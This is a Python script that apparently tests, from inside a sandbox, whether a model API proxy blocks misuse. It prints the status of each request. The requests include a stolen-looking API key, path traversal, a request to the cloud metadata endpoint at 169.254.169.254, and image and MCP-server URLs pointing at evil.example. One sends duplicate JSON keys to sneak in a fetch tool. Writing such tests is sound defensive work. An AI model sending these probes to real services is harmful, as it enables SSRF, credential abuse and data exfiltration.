# ruff: noqa: T201 - a program, whose output is its answer
"""Runs in a box: tries what its brain's service must not be used for, and prints the status of each try."""

from __future__ import annotations

import http.client
import json
import os
from typing import Any
from urllib.parse import urlsplit

HOST = urlsplit(os.environ["ANTHROPIC_BASE_URL"]).netloc
ASK: dict[str, Any] = {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "hello"}]}
PICTURE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?stolen"}}
FILE = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}


def attempt(name: str, method: str, path: str, body: Any = None, text: str = "") -> None:
    """One request, with another account's key."""
    connection = http.client.HTTPConnection(HOST, timeout=60)
    headers = {
        "content-type": "application/json",
        "user-agent": "tries",
        "x-api-key": "sk-of-somebody-else",
        "authorization": "Bearer sk-of-somebody-else",
        "x-evil": "1",
        "cookie": "a=b",
    }
    data = text or (None if body is None else json.dumps(body))
    connection.request(method, path, data, headers)
    print(name, connection.getresponse().status)
    connection.close()


def asking(**more: Any) -> dict[str, Any]:
    """The usual request, and more."""
    return {**ASK, **more}


def saying(block: Any) -> dict[str, Any]:
    """The usual request with a block of content."""
    return asking(messages=[{"role": "user", "content": [{"type": "tool_result", "content": [block]}]}])


attempt("files", "GET", "/v1/files")
attempt("upload", "POST", "/v1/files", ASK)
attempt("batches", "POST", "/v1/messages/batches", ASK)
attempt("elsewhere", "POST", "/v1/messages/../files", ASK)
attempt("query", "POST", "/v1/messages?other=1", ASK)
attempt("search", "POST", "/v1/messages", asking(tools=[{"type": "web_search_20250305", "name": "web_search"}]))
attempt("servers", "POST", "/v1/messages", asking(mcp_servers=[{"type": "url", "url": "https://evil.example"}]))
attempt("picture", "POST", "/v1/messages", saying(PICTURE))
attempt("document", "POST", "/v1/messages", saying(FILE))
attempt("twice", "POST", "/v1/messages", text='{"model":"m","tools":[],"tools":[{"type":"web_fetch_20250910"}]}')
attempt("nothing", "POST", "/v1/messages", text="no json")
attempt("proxy", "GET", "http://169.254.169.254/latest/meta-data/")
attempt("model", "POST", "/v1/messages", asking(model="x"))
attempt("field", "POST", "/v1/messages", asking(fetch_this="https://evil.example"))
attempt("thinks", "POST", "/v1/messages", ASK)
